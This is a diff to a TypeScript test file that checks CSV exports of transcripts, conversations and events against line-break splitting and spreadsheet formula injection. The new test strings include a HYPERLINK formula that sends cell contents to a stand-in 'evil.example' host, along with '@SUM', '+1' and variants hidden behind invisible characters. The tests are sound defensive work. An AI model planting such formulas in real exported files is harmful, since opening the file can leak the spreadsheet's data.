@@ -2,7 +2,8 @@ import { connect, type Socket } from 'node:net';
 import { setTimeout as pause } from 'node:timers/promises';
 import Database from 'better-sqlite3';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
-import { transcriptColumns } from '../../contract/export-talks.ts';
+import { eventColumns } from '../../contract/export-events.ts';
+import { conversationColumns, transcriptColumns } from '../../contract/export-talks.ts';
 import { newId } from '../../server/ids.ts';
 import type { Harness } from '../harness.ts';
 import { openHarness } from '../harness.ts';
@@ -64,6 +65,9 @@ describe('a CSV', () => {
       'a "quoted" word',
       'one, two; three',
       'line\nline\r\nline\rline',
+      'lone\nline feed',
+      'lone\rcarriage return',
+      'one\u2028two\u2029three\u0085four\vfive\fsix',
       ' spaces ',
       'Grüße, 你好 👩‍🚀 مرحبا',
       '""',
@@ -73,6 +77,25 @@ describe('a CSV', () => {
     const rows = rowsOfCsv(await (await get('/transcripts.csv')).text(), transcriptColumns);
     expect(rows.map(({ message }) => message)).toEqual(texts);
     expect(rows.map(({ answer }) => answer)).toEqual(texts);
+  });
+
+  it('keeps what has several lines in its cell, so that no line of it begins a row', async () => {
+    const asked = 'How do I pay?\n=HYPERLINK("http://evil.example/?"&A1)\r@SUM(1)\u2028+1';
+    await fillTurns([asked, 'a\n=1+2', 'b\r=1+3', 'c\u2028=1+4']);
+    const { events } = harness.service.store.in(harness.workspace.id);
+    const data = { bucket: 'x\u2028=1' };
+    const atMillis = harness.clock.now();
+    await events.append([{ id: newId('evt'), atMillis, type: 'rate_limited', data }]);
+    for (const [path, columns, count] of [
+      ['/transcripts.csv', transcriptColumns, 4],
+      ['/conversations.csv', conversationColumns, 4],
+      ['/events.csv', eventColumns, 1],
+    ] as const) {
+      const rows = rowsOfCsv(await (await get(path)).text(), columns);
+      expect(rows, path).toHaveLength(count);
+      const said = rows.flatMap((row) => ('first_message' in row ? [row.first_message] : []));
+      if (path === '/conversations.csv') expect(said).toContain(asked);
+    }
   });
 
   it('has no cell that a spreadsheet would run', async () => {
@@ -88,6 +111,14 @@ describe('a CSV', () => {
       '－1',
       '＠1',
       '=HYPERLINK("http://x","y")',
+      ' =1',
+      '\n=1',
+      '\r\n +1',
+      '\nno formula at once',
+      '\u00a0@SUM(A1)',
+      '\u200b=1',
+      '\ufeff-1',
+      '\u0000=1',
     ];
     await fillTurns(formulas);
     const rows = rowsOfCsv(await (await get('/transcripts.csv')).text(), transcriptColumns);
